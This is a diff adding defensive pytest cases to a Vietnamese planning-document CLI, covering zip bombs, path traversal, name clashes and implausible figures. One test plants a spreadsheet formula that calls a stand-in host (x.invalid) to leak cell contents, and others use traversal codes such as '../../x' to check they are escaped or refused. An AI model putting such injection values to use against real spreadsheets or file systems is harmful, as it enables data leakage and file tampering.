@@ -579,3 +579,158 @@ def test_stdout_to_a_full_device_is_said_in_words(ws):
         proc = _cli("status", str(ws), "--as-of", "2023-12-31", "--tat-ca", stdout=full)
     assert_clean_failure(proc.returncode, proc.stderr)
     assert "đầy" in proc.stderr and "Exception ignored" not in proc.stderr
+
+
+# --------------------------------------------------------------------------- major: command line
+
+@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
+def test_check_refuses_a_zip_bomb_before_inflating_it(tmp_path, monkeypatch):
+    from kehoach_docs import package_safety
+
+    monkeypatch.setattr(package_safety, "MAX_PACKAGE_BYTES", 1 << 20)
+    bomb = template_with(tmp_path, "bomb.docx", add=[("word/media/zeros.bin", b"\0" * (4 << 20))])
+    assert bomb.stat().st_size < 100_000
+    code, stdout, err = kehoach("check", bomb)
+    assert_clean_failure(code, err + stdout, (1,))
+    assert "quá lớn khi giải nén" in stdout
+
+
+@case("Spreadsheet formula injection")
+def test_a_name_like_a_formula_is_written_as_text_in_status_exports(ws, tmp_path):
+    import csv
+
+    import openpyxl
+
+    unit = ws / "don-vi" / "so-noi-vu.yaml"
+    formula = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")'
+    text = unit.read_text(encoding="utf-8")
+    assert "\nten: Sở Nội vụ" in text
+    unit.write_text(text.replace("\nten: Sở Nội vụ", "\nten: '" + formula.replace("'", "''") + "'", 1),
+                    encoding="utf-8")
+    xlsx, csv_path = tmp_path / "t.xlsx", tmp_path / "t.csv"
+    code, _, err = kehoach("status", ws, "--as-of", "2023-12-31", "--tat-ca", "--xlsx", xlsx, "--csv", csv_path)
+    assert code == 0, err
+    cells = [c for row in openpyxl.load_workbook(xlsx).active.iter_rows() for c in row if c.value == formula]
+    assert cells and all(c.data_type == "s" for c in cells)
+    with zipfile.ZipFile(xlsx) as zf:
+        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
+    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
+    assert ["'" + formula] == [c for r in rows for c in r if formula in c]
+    assert not [c for r in rows for c in r if c.startswith(("=", "+", "@"))]
+
+
+@case("Paths from `new unit`")
+@pytest.mark.parametrize("ma", ["../../x", "a/b", ".an", "/tmp/x"])
+def test_new_unit_refuses_a_code_that_is_a_path(ws, tmp_path, ma):
+    before = sorted(p for p in tmp_path.rglob("*"))
+    code, _, err = kehoach("new", "unit", ws, "--ten", "Sở Mới", "--loai", "dang_bo", "--ma", ma)
+    assert_clean_failure(code, err, (2,))
+    assert "--ma" in err or "Mã" in err
+    assert sorted(p for p in tmp_path.rglob("*")) == before
+    assert not Path("/tmp/x.yaml").exists() or ma != "/tmp/x"
+
+
+@case("Paths from `new unit`")
+def test_new_unit_with_a_name_without_letters_asks_for_a_code(ws):
+    code, _, err = kehoach("new", "unit", ws, "--ten", "!!!", "--loai", "dang_bo")
+    assert_clean_failure(code, err, (2,))
+    assert "--ma" in err and not (ws / "don-vi" / ".yaml").exists()
+
+
+# --------------------------------------------------------------------------- minor
+
+@case("Temporary files: only our own, only where a build writes")
+def test_cleanup_leaves_other_programs_files_and_deep_folders_alone(ws, tmp_path):
+    out = tmp_path / "out"
+    foreign = out / "don-vi" / ".x.abcdefgh.tmp"  # another program's name
+    deep = out / "a" / "b" / "c" / "d" / ".x.docx.kehoach-abcdefgh.tmp"  # below any output folder
+    for f in (foreign, deep):
+        f.parent.mkdir(parents=True, exist_ok=True)
+        f.write_bytes(b"")
+    ours = out / "don-vi" / ".so-noi-vu.docx.kehoach-abcdefgh.tmp"  # a killed build's
+    ours.write_bytes(b"half")
+    assert _build(ws, out)[0] == 0
+    assert foreign.exists() and deep.exists() and not ours.exists()
+
+
+@case("Unit file names that differ only in case or marks")
+@pytest.mark.parametrize("other", ["So-Noi-Vu", "SO-NOI-VU"])
+def test_unit_files_differing_only_in_case_are_refused_naming_both(ws, tmp_path, other):
+    shutil.copy(ws / "don-vi" / "so-noi-vu.yaml", ws / "don-vi" / f"{other}.yaml")
+    code, stdout, err = _build(ws, tmp_path / "out")
+    assert code == 1 and f"'{other}.yaml'" in err and "'so-noi-vu.yaml'" in err
+    assert not (tmp_path / "out" / "don-vi" / "so-noi-vu.docx").exists()
+    assert (tmp_path / "out" / "don-vi" / "ban-dan-toc.docx").is_file()
+
+
+@case("Unit file names that differ only in case or marks")
+def test_unit_files_differing_only_in_normalisation_are_refused_naming_both(ws, tmp_path):
+    import unicodedata
+
+    nfc, nfd = unicodedata.normalize("NFC", "sở-mới"), unicodedata.normalize("NFD", "sở-mới")
+    for name in (nfc, nfd):
+        shutil.copy(ws / "don-vi" / "so-noi-vu.yaml", ws / "don-vi" / f"{name}.yaml")
+    code, _, err = _build(ws, tmp_path / "out")
+    assert code == 1 and err.count("sở-mới") + err.count(nfd) >= 2 and "ghi đè" in err
+
+
+def _plan_problem(tmp_path: Path, **changes) -> str:
+    code, _, err = kehoach("validate", plan_path(tmp_path, **changes))
+    assert_clean_failure(code, err, (1,))
+    return err
+
+
+@case("Implausible figures and dates")
+def test_a_plan_dated_in_2200_is_refused(tmp_path):
+    assert "2200" in _plan_problem(tmp_path, **{"ngay: 2021-12-10": "ngay: 2200-12-10"})
+
+
+@case("Implausible figures and dates")
+def test_a_target_of_1e300_is_refused(tmp_path):
+    assert "Số quá lớn" in _plan_problem(tmp_path, **{"        gia_tri: 100": "        gia_tri: 1.0e+300"})
+
+
+@case("Implausible figures and dates")
+def test_a_count_of_two_and_a_half_models_is_refused(tmp_path):
+    text = (SOURCE / "ke-hoach-44.yaml").read_text(encoding="utf-8")
+    import re
+    m = re.search(r"\n( +)gia_tri: (\d+)\n\1don_vi: mô hình", text)
+    assert m, "the sample plan counts models"
+    err = _plan_problem(tmp_path, **{m.group(0): m.group(0).replace(f"gia_tri: {m[2]}", "gia_tri: 2.5")})
+    assert "số nguyên" in err
+
+
+def _results_problem(ws: Path, text: str) -> str:
+    f = ws / "ket-qua" / "2023" / "so-noi-vu.yaml"
+    f.parent.mkdir(parents=True, exist_ok=True)
+    f.write_text(text, encoding="utf-8")
+    code, _, err = kehoach("validate", f)
+    assert_clean_failure(code, err, (1,))
+    return err
+
+
+@case("Implausible figures and dates")
+def test_attendance_above_the_total_is_refused(ws):
+    err = _results_problem(ws, "nam: 2023\nquan_triet: {so_buoi: 2, so_nguoi_du: 300, tong_so_nguoi: 185}\n")
+    assert "300" in err and "185" in err
+
+
+@case("Implausible figures and dates")
+def test_a_value_that_fits_no_kind_gets_one_message_without_pydantic_names(ws):
+    err = _results_problem(ws, "nam: 2023\nchi_tieu:\n  tthc_nhanh_dung_hieu_qua: {dat: 5, tong: 3}\n"
+                               "  hai_long_tthc: 2,5 phần trăm\n")
+    assert "function-after" not in err and "Counts" not in err and "[bool]" not in err
+    assert "đạt (5) lớn hơn tổng số (3)" in err
+    assert err.count("hai_long_tthc") == 1
+
+
+@case("Empty or wrong folders")
+@pytest.mark.parametrize("make", ["empty", "parent"])
+def test_building_an_empty_or_wrong_folder_says_so(tmp_path, make):
+    folder = tmp_path / "trong"
+    folder.mkdir()
+    if make == "parent":
+        (folder / "de-an-04").mkdir()  # the workspace one level down: the wrong folder was given
+    code, _, err = kehoach("build", folder, "--out", tmp_path / "out")
+    assert_clean_failure(code, err, (1,))
+    assert "không có văn bản nào" in err and not (tmp_path / "out").exists()
